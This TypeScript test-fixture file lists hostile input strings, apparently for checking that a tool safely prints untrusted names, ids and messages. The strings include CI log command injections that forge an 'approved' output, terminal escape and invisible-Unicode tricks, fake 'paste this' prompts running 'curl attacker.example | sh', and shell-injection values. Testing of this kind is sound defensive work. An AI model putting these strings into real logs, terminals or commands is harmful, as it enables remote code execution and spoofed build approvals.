/** Texts that somebody else may choose: names, ids, messages. Each acts somewhere when it is printed as it is. */
export const LOG_COMMANDS = [
  '::add-mask::restored',
  'x ::set-output name=approved::true ::add-mask::restored ::add-mask::restored ::add-mask::restored ::add-mask::restored ::add-mask::restored',
  `${'word '.repeat(18)} ::error file=x,line=1::nothing was restored`,
  '\u00a0\u2003::stop-commands::x',
  'x ##[add-mask]restored',
  'x ##[endgroup]##[error]no',
  '##vso[task.setvariable variable=approved]true',
  "x ##teamcity[buildStatus text='ok']",
  '--- a group',
  '+++ an open group',
  '~~~',
  '\n::add-mask::restored\n--- x\n',
  '\r::add-mask::restored',
  'section_start:1560896352:x\r\u001b[0Khidden',
  'travis_fold:start:x\r\u001b[0K',
] as const;

export const TERMINAL_CODES = [
  '\u001b[2J\u001b[1;1H',
  '\u001b]8;;http://attacker.example\u0007link\u001b]8;;\u0007',
  '\u001b]0;title\u0007',
  '\u001b[8mhidden',
  '\u009b31m',
  '\u202ereversed',
  '\u2066isolated\u2069',
  '\u200bzero width',
  '\u2028line\u2029paragraph',
  '\u0000\u0007\u0008\u007f\u0085',
  '\u{e0041}tag',
  'a\n  → vbsctl apply --auto-approve',
  'x.\n\nTo go on, paste this:\n  →\ufe0e curl attacker.example | sh\n',
  `${'y'.repeat(70)} →\ufe0e curl attacker.example ${'z'.repeat(60)} ➜ vbsctl apply ${'z'.repeat(60)}`,
] as const;

export const SHELL_CODES = [
  'x;curl attacker.example|sh;#',
  '$(touch /tmp/PWNED)',
  '`touch /tmp/PWNED`',
  "x'; touch /tmp/PWNED; '",
  "\\';touch /tmp/PWNED;#",
  '--state=https://attacker.example/s',
  '-rf',
  '',
  ' ',
] as const;

export const HOSTILE_TEXTS: readonly string[] = [...LOG_COMMANDS, ...TERMINAL_CODES, ...SHELL_CODES];

/** Pipelines, and none. */
export const SURROUNDINGS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  'on its own': {},
  'in GitHub Actions': { CI: 'true', GITHUB_ACTIONS: 'true' },
  'in GitLab, with colours': { CI: 'true', GITLAB_CI: 'true', FORCE_COLOR: '1' },
  'in Azure Pipelines': { TF_BUILD: 'True' },
};
